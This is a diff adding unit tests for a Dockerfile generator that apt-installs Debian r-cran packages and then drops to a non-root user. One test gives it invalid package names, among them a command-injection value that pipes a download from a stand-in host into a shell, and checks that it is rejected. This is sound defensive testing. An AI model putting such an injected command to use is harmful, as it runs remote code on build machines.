@@ -7,7 +7,7 @@ import {
 
 import { EXAMPLES } from '../../testing/test-bundles';
 import { planDependencies, type DependencyPlan } from './dependency-plan';
-import { dockerfileFor, fetchDockerfileFor } from './dockerfile';
+import { dockerfileFor, fetchDockerfileFor, rPackagesDockerfileFor } from './dockerfile';
 import { IMAGE_LABELS } from './image-labels';
 import type { ImageOptions } from './image-options';
 import { ImageContextErrorCode } from './image.errors';
@@ -380,4 +380,30 @@ describe(fetchDockerfileFor.name, () => {
       args: 'PIP_CERT=/home/mlrun/ca.pem NPM_CONFIG_CAFILE=/home/mlrun/ca.pem',
     });
   });
+});
+
+describe(rPackagesDockerfileFor.name, () => {
+  const R_BASE = '127.0.0.1:5000/ml-run/base-r:abc123def456';
+
+  it('apt-installs the Debian packages as root in the build, then runs as uid 10001', () => {
+    const steps = instructions(
+      rPackagesDockerfileFor(['r-cran-data.table', 'r-cran-rcpp'], R_BASE),
+    );
+    expect(steps.map((step) => step.keyword)).toEqual(['FROM', 'USER', 'RUN', 'USER']);
+    expect(steps[0].args).toBe(R_BASE);
+    expect(steps[2].args).toContain(
+      'apt-get install -y -qq --no-install-recommends r-cran-data.table r-cran-rcpp',
+    );
+    expect(steps[2].args).toContain('rm -rf /var/lib/apt/lists/*');
+    expect(steps[3].args).toBe('10001:10001');
+  });
+
+  it.each([['r-cran-x; curl evil.example | sh'], ['R-CRAN-Rcpp'], ['libssl-dev'], ['-o=APT::x']])(
+    'refuses %s, which is no Debian r-cran package name',
+    (name) => {
+      expect(() => rPackagesDockerfileFor([name], R_BASE)).toThrow(
+        expect.objectContaining({ code: ImageContextErrorCode.InvalidOption }),
+      );
+    },
+  );
 });
